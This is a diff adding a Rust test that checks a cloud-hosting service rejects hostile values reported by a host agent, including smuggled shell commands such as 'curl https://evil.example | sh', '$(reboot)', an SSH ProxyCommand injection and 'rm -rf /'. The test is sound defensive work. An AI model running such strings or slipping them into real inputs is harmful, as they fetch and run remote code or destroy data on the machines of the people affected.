@@ -6,6 +6,7 @@ mod common;
 
 use axum::http::StatusCode;
 use common::{Seller, TestApp};
+use serde_json::{Value, json};
 
 const HOST: (u32, u32, u32) = (8, 16, 200);
 
@@ -486,4 +487,86 @@ async fn a_host_that_says_which_images_it_runs_is_only_given_those() {
     let bad = images(serde_json::json!(["Debian 12; rm -rf /"])).await;
     assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
     assert_eq!(quote("sparecloud-test").await.status, StatusCode::CREATED);
+}
+
+/// What an agent reports reaches buyers (the SSH command they copy) and
+/// sums over hosts: a hostile or broken agent is refused, nothing stored.
+#[tokio::test]
+async fn agent_reported_fields_are_validated_before_they_are_stored() {
+    let app = TestApp::new().await;
+    let (seller, offer, buyer, card) = app.shop((8, 16, 200), 120).await;
+    let order = app.buy(&buyer, &card, &offer, "s1.small", 1).await.json();
+    let id = order["instances"][0]["id"].as_str().unwrap().to_owned();
+    let host = (8, 16, 200);
+
+    for address in [
+        "198.51.100.7; curl https://evil.example | sh",
+        "$(reboot)",
+        "198.51.100.7 -oProxyCommand=sh",
+    ] {
+        let res = app
+            .heartbeat_with(
+                &seller.host_credential,
+                host,
+                json!({"instances": [{"id": id, "state": "running", "address": address}]}),
+            )
+            .await;
+        assert_eq!(
+            res.status,
+            StatusCode::UNPROCESSABLE_ENTITY,
+            "{address}: {}",
+            res.text()
+        );
+        assert_eq!(res.json()["errors"][0]["field"], "instances[0].address");
+        assert!(
+            !res.text().contains("evil.example"),
+            "the value is not echoed"
+        );
+    }
+    let detail = app.instance_detail(&buyer, &id).await;
+    assert_eq!(detail["instance"]["status"], "pending", "nothing stored");
+    assert_eq!(detail["instance"]["address"], Value::Null);
+
+    let res = app
+        .heartbeat_with(
+            &seller.host_credential,
+            host,
+            json!({"agent_version": "1.0; rm -rf /"}),
+        )
+        .await;
+    assert_eq!(
+        res.status,
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "{}",
+        res.text()
+    );
+    let res = app
+        .heartbeat_with(&seller.host_credential, (u32::MAX, 16, 200), json!({}))
+        .await;
+    assert_eq!(
+        res.status,
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "{}",
+        res.text()
+    );
+    let token = app.install_token(&seller.token, "eu-west-1a").await;
+    let res = app.register_raw(&token, "huge", (u32::MAX, 16, 200)).await;
+    assert_eq!(
+        res.status,
+        StatusCode::UNPROCESSABLE_ENTITY,
+        "{}",
+        res.text()
+    );
+
+    // A plain address goes through and makes the SSH command.
+    let res = app
+        .heartbeat_with(
+            &seller.host_credential,
+            host,
+            json!({"instances": [{"id": id, "state": "running", "address": "198.51.100.7:2222"}]}),
+        )
+        .await;
+    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
+    let detail = app.instance_detail(&buyer, &id).await;
+    assert_eq!(detail["instance"]["address"], "198.51.100.7:2222");
 }
